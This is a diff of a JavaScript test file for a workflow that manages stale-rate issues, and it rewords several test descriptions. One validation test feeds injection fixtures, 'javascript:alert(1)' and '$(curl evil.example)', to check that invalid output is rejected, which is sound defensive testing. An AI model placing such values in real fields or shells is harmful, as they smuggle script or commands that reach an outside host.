@@ -45,14 +45,14 @@ describe('keepStaleIssue', () => {
     expect(workflow.api.edits).toEqual([]);
   });
 
-  it('edits the text without a comment if a mirror’s response changes', async () => {
+  it('edits the issue’s text if a mirror’s response changes', async () => {
     await keep(stale);
     await keep({ ...stale, mirrors: [{ mirror: first, outcome: 'failed', date: null }] });
     expect(workflow.api.edits).toEqual(['body']);
     expect(workflow.api.issues).toMatchObject([{ state: 'open', comments: [] }]);
   });
 
-  it('closes the issue if a publish has fresh rates, and opens another issue the next time', async () => {
+  it('closes the issue if a publish has fresh rates', async () => {
     await keep(stale);
     await keep(null, 'failure');
     expect(workflow.api.issues).toMatchObject([{ state: 'open' }]);
@@ -64,7 +64,7 @@ describe('keepStaleIssue', () => {
     expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
   });
 
-  it('doesn’t reopen an issue that a person closed, until the rates become stale again', async () => {
+  it('opens no second issue after a manual close until the rates become stale again', async () => {
     await keep(stale);
     Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
     await keep({ ...stale, mirrors: [] });
@@ -91,7 +91,7 @@ describe('keepStaleIssue', () => {
     withMirror({ mirror: 'javascript:alert(1)' }),
     withMirror({ outcome: '$(curl evil.example)' }),
     withMirror({ date: '@me' }),
-  ])('throws and changes nothing if the publish’s output is invalid: %s', async (output) => {
+  ])('throws and changes nothing if the output of the publish is the invalid text %s', async (output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     expect(workflow.api.issues).toEqual([]);
   });
